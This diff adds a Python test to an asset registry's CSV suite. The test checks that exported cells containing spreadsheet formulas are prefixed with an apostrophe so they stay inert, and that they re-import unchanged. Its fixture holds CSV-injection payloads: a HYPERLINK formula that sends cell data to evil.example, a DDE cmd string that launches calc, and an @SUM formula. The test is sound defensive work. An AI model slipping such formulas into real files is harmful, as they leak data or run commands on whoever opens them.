@@ -884,3 +884,34 @@ def test_a_csv_with_an_unclosed_quote_says_so_with_its_line(demo, tmp_path):
     assert str(raised.value).startswith("Nothing imported: ")
     assert "line 3: a quoted cell opens on this line and is never closed" in str(raised.value)
     assert registry_state() == before
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "description": "-2+3+cmd|' /C calc'!A0",
+    "category": "@SUM(1)",
+}
+
+
+def test_a_cell_a_spreadsheet_would_run_is_exported_inert_and_reimports_unchanged(
+    registry_data, tmp_path
+):
+    """CSV injection: an asset named ``=HYPERLINK(…)`` exported raw is a formula when a
+    steward opens the file. Each such cell starts with a ``'``, a plain number does not,
+    and the file re-imports to the same values (no change)."""
+    asset = asset_create(symbol="FORMULA", asset_type="ERC20", **FORMULAS)
+    asset_create(symbol="QUOTE", name="'=already quoted", asset_type="ERC20")
+    text = export_text("assets")
+    row = next(r for r in csv.DictReader(StringIO(text)) if r["asset_id"] == str(asset.pk))
+    for field, value in FORMULAS.items():
+        assert row[field] == "'" + value
+    quoted = next(r for r in csv.DictReader(StringIO(text)) if r["symbol"] == "QUOTE")
+    assert quoted["name"] == "''=already quoted"
+    path = tmp_path / "assets.csv"
+    path.write_text(text, encoding="utf-8")
+    before = registry_state()
+
+    report = import_csv("assets", path)
+
+    assert report["created"] == report["updated"] == {} and report["rejected"] == []
+    assert registry_state() == before
